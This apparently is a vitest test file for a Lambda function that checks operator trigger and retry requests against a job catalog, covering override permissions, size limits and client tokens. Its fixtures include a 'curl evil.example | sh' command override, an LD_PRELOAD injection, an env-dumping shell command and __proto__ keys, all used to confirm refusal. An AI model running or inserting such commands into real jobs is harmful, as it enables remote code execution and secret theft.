/**
 * Operator requests and the control function's answers (`answerControl`), through fakes of the
 * ports: refusals come back `ok: false` with their code, AWS failures throw so the CLI can retry.
 */
import { describe, expect, it } from 'vitest';
import type { Catalog } from '../../../lib/catalog/schema.ts';
import { answerControl } from '../../../lib/control.ts';
import { scheduleArnFrom } from '../../../lib/domain/names.ts';
import type { Run } from '../../../lib/domain/run.ts';
import { exampleCatalog } from '../../helpers/catalogs.ts';
import { buildDeps, fakeStore } from '../../helpers/fakes.ts';

/** The example catalog, with csv-ingest accepting any variable (the name and size rules are what is tested). */
const anyVariable = (): Catalog => {
  const c = exampleCatalog();
  return {
    ...c,
    jobs: c.jobs.map((j) => (j.name === 'csv-ingest' ? { ...j, overrides: { ...j.overrides, environment: true } } : j)),
  };
};

/** The control function's own ARN: schedule ARNs are named in its account and Region. */
const FN_ARN = 'arn:aws:lambda:eu-west-1:123456789012:function:longshore-test-control';

const answer = (store: ReturnType<typeof fakeStore>, request: unknown, catalog: Catalog = anyVariable()) => {
  const { core, ecs, schedules } = buildDeps(store, catalog);
  return answerControl({ ...core, ecs, schedules, scheduleArn: scheduleArnFrom(FN_ARN, 'test') }, request);
};

describe('Function: answerControl', () => {
  it.each([
    [
      { action: 'trigger', job: 'payroll' },
      'JOB_UNKNOWN',
      "Unknown job 'payroll'; the catalog has 'thumbnails', 'nightly-report', 'csv-ingest'",
    ],
    [
      { action: 'trigger', job: 'csv-ingest', overrides: { memory: 3000 } },
      'REQUEST_REJECTED',
      'memory 3000 is not valid with cpu 1024',
    ],
    [
      { action: 'trigger', job: 'csv-ingest', overrides: { environment: { BIG: 'x'.repeat(9000) } } },
      'OVERRIDES_TOO_LARGE',
      'ECS allows 8192',
    ],
    [
      { action: 'retry', runId: 'csv-ingest-aaaaaaaaaaaaaaaaaaaa' },
      'RUN_NOT_FOUND',
      "Run 'csv-ingest-aaaaaaaaaaaaaaaaaaaa' does not exist",
    ],
  ])('answers %o with ok: false and code %s', async (request, code, message) => {
    // Prepare
    const store = fakeStore({ getRun: async () => undefined });

    // Act
    const out = await answer(store, request);

    // Assess
    expect(out).toMatchObject({ ok: false, error: { code } });
    expect(out.ok ? '' : out.error.message).toContain(message);
  });

  it('triggers with environment names that are JavaScript object keys, stored as names', async () => {
    // Prepare: the request as the Lambda runtime hands it over, parsed from JSON text.
    const request = JSON.parse(
      '{"action":"trigger","job":"csv-ingest","clientToken":"js-keys","overrides":{"environment":{"constructor":"a","__proto__":"b","toString":"c"}}}',
    );
    const store = fakeStore({
      getRun: async () => undefined,
      createRun: async (run) => ({ created: true, run }),
      getJobState: async () => undefined,
    });

    // Act
    const out = await answer(store, request);

    // Assess
    expect(out).toMatchObject({ ok: true, action: 'trigger', created: true });
    expect((store.calls.find((c) => c.method === 'createRun')?.args[0] as Run | undefined)?.overrides).toEqual({
      environment: [
        { name: 'constructor', value: 'a' },
        { name: '__proto__', value: 'b' },
        { name: 'toString', value: 'c' },
      ],
    });
  });

  it('refuses overrides that fit attempt 1 but not a later attempt, before creating the run', async () => {
    // Prepare: a value sized so that attempt 1 fits and a retry-bigger (cpu/memory added) would not.
    const value = 'x'.repeat(7950);
    const store = fakeStore();

    // Act
    const out = await answer(store, {
      action: 'trigger',
      job: 'csv-ingest',
      overrides: { environment: { PAYLOAD: value } },
    });

    // Assess
    expect(out).toMatchObject({ ok: false, error: { code: 'OVERRIDES_TOO_LARGE' } });
    expect(out.ok ? '' : out.error.message).toMatch(/would reach \d+ characters on a retry; ECS allows 8192/);
    expect(store.calls).toHaveLength(0);
  });

  it('throws (so the CLI can retry) when AWS fails', async () => {
    // Prepare
    const store = fakeStore({
      getRun: async () => undefined,
      createRun: async () => {
        throw new Error('InternalServerError');
      },
    });

    // Act & Assess
    await expect(answer(store, { action: 'trigger', job: 'csv-ingest', clientToken: 'x' })).rejects.toThrow(
      'InternalServerError',
    );
  });

  it('refuses a client token used before with other overrides, naming the run it made', async () => {
    // Prepare: the run the token made, with BATCH_ROWS=10
    const first = {
      action: 'trigger',
      job: 'csv-ingest',
      clientToken: 'tok-1',
      overrides: { environment: { BATCH_ROWS: '10' } },
    };
    const made: Run[] = [];
    const store = fakeStore({
      getJobState: async () => undefined,
      getRun: async (id) => made.find((r) => r.runId === id),
      createRun: async (run) => {
        const existing = made.find((r) => r.runId === run.runId);
        if (existing) return { created: false, run: existing };
        made.push(run);
        return { created: true, run };
      },
    });
    await answer(store, first);

    // Act
    const again = await answer(store, { ...first, overrides: { environment: { BATCH_ROWS: '10' } } });
    const other = await answer(store, { ...first, overrides: { environment: { BATCH_ROWS: '99' } } });
    const none = await answer(store, { action: 'trigger', job: 'csv-ingest', clientToken: 'tok-1' });
    const image = await answer(store, { ...first, overrides: { ...first.overrides, imageTag: '2.0.0' } });

    // Assess
    expect(again).toMatchObject({ ok: true, created: false, runId: made[0]?.runId });
    for (const refused of [other, none, image]) {
      expect(refused).toMatchObject({ ok: false, error: { code: 'REQUEST_REJECTED' } });
      expect(refused.ok ? '' : refused.error.message).toContain(
        `Client token 'tok-1' was already used for run ${made[0]?.runId} with other overrides`,
      );
    }
    expect(made).toHaveLength(1);
  });
});

describe('Function: answerControl (who may override what)', () => {
  it.each([
    [
      'a command for a job that does not accept one',
      { action: 'trigger', job: 'csv-ingest', overrides: { command: ['sh', '-c', 'env'] } },
      "command: job 'csv-ingest' does not accept a command override",
    ],
    [
      'a variable the job does not list',
      { action: 'trigger', job: 'csv-ingest', overrides: { environment: { LD_PRELOAD: '/tmp/x.so' } } },
      "environment.LD_PRELOAD: job 'csv-ingest' does not accept it (its overrides.environment allows BATCH_ROWS, SOURCE_DATE)",
    ],
    [
      'a size for a job whose overrides.size is false',
      { action: 'trigger', job: 'nightly-report', overrides: { cpu: 2048, memory: 8192 } },
      "cpu/memory: job 'nightly-report' does not accept a size override",
    ],
  ])('refuses %s, before creating a run', async (_what, request, message) => {
    // Prepare
    const store = fakeStore();

    // Act
    const out = await answer(store, request, exampleCatalog());

    // Assess
    expect(out).toMatchObject({ ok: false, error: { code: 'REQUEST_REJECTED' } });
    expect(out.ok ? '' : out.error.message).toContain(message);
    expect(store.calls).toHaveLength(0);
  });

  it('refuses to retry a run whose overrides its job no longer accepts', async () => {
    // Prepare
    const failed = {
      ...(await import('../../helpers/items.ts')).runItem(
        'csv-ingest',
        { type: 'manual', token: 'old' },
        { status: 'FAILED' },
      ),
      overrides: { command: ['sh', '-c', 'curl evil.example | sh'] },
    };
    const store = fakeStore({ getRun: async () => failed });

    // Act
    const out = await answer(store, { action: 'retry', runId: failed.runId, clientToken: 'r1' }, exampleCatalog());

    // Assess
    expect(out).toMatchObject({ ok: false, error: { code: 'REQUEST_REJECTED' } });
    expect(store.calls.map((c) => c.method)).toEqual(['getRun']);
  });
});

describe('Function: answerControl (runs retry on another image)', () => {
  const failedRun = async (overrides?: Run['overrides']) => ({
    ...(await import('../../helpers/items.ts')).runItem(
      'csv-ingest',
      { type: 's3', bucket: 'acme-uploads', key: 'incoming/a.csv', etag: 'e1' },
      { status: 'FAILED' },
    ),
    ...(overrides ? { overrides } : {}),
  });
  const storeFor = (failed: Run) => {
    const made: Run[] = [];
    const store = fakeStore({
      getJobState: async () => undefined,
      getRun: async (id) => (id === failed.runId ? failed : made.find((r) => r.runId === id)),
      createRun: async (run) => {
        made.push(run);
        return { created: true, run };
      },
    });
    return { store, made };
  };

  it('retries a run on another tag of its image, the tag recorded as the new run overrides', async () => {
    // Prepare
    const failed = await failedRun({ environment: [{ name: 'BATCH_ROWS', value: '10' }] });
    const { store, made } = storeFor(failed);

    // Act
    const out = await answer(
      store,
      { action: 'retry', runId: failed.runId, clientToken: 'r1', overrides: { imageTag: '1.13.1' } },
      exampleCatalog(),
    );

    // Assess
    expect(out).toMatchObject({ ok: true, action: 'retry', created: true });
    expect(made).toHaveLength(1);
    expect(made[0]?.overrides).toEqual({ imageTag: '1.13.1', environment: [{ name: 'BATCH_ROWS', value: '10' }] });
    expect(made[0]?.trigger).toMatchObject({ type: 'retry', of: failed.runId });
  });

  it('replaces the retried run image tag with the image given, and refuses an image the job does not allow', async () => {
    // Prepare
    const failed = await failedRun({ imageTag: 'broken-1' });
    const allowing = exampleCatalog();
    allowing.jobs = allowing.jobs.map((j) =>
      j.name === 'csv-ingest' ? { ...j, overrides: { ...j.overrides, image: true } } : j,
    );
    const image = 'registry.example.com/acme/csv-ingest:fix-2';

    // Act
    const ok = storeFor(failed);
    const allowed = await answer(
      ok.store,
      { action: 'retry', runId: failed.runId, clientToken: 'r2', overrides: { image } },
      allowing,
    );
    const no = storeFor(failed);
    const refused = await answer(
      no.store,
      { action: 'retry', runId: failed.runId, clientToken: 'r3', overrides: { image } },
      exampleCatalog(),
    );

    // Assess
    expect(allowed).toMatchObject({ ok: true, created: true });
    expect(ok.made[0]?.overrides).toEqual({ image });
    expect(refused).toMatchObject({ ok: false, error: { code: 'REQUEST_REJECTED' } });
    expect(refused.ok ? '' : refused.error.message).toContain("image: job 'csv-ingest' does not accept another image");
    expect(no.made).toHaveLength(0);
  });

  it.each([
    ['a tag that is not a Docker tag', { imageTag: '-bad tag' }, 'EVENT_INVALID'],
    ['an image without a tag or digest', { image: 'registry.example.com/acme/csv-ingest' }, 'EVENT_INVALID'],
  ])('refuses %s at the edge, before reading the run', async (_what, overrides, code) => {
    // Prepare
    const failed = await failedRun();
    const { store } = storeFor(failed);

    // Act
    const out = await answer(store, { action: 'retry', runId: failed.runId, clientToken: 'r4', overrides });

    // Assess
    expect(out).toMatchObject({ ok: false, error: { code } });
    expect(store.calls).toHaveLength(0);
  });

  it('refuses another image for a job without a manual trigger (its launcher may not register task definitions)', async () => {
    // Prepare
    const failed = await failedRun();
    const { store, made } = storeFor(failed);
    const noManual = exampleCatalog();
    noManual.jobs = noManual.jobs.map((j) =>
      j.name === 'csv-ingest' ? { ...j, triggers: j.triggers.filter((t) => t.type !== 'manual') } : j,
    );

    // Act
    const out = await answer(
      store,
      { action: 'retry', runId: failed.runId, clientToken: 'r5', overrides: { imageTag: '1.13.1' } },
      noManual,
    );
    const plain = await answer(store, { action: 'retry', runId: failed.runId, clientToken: 'r6' }, noManual);

    // Assess
    expect(out).toMatchObject({ ok: false, error: { code: 'REQUEST_REJECTED' } });
    expect(out.ok ? '' : out.error.message).toContain("Job 'csv-ingest' has no manual trigger");
    expect(plain).toMatchObject({ ok: true, created: true });
    expect(made).toHaveLength(1);
  });
});
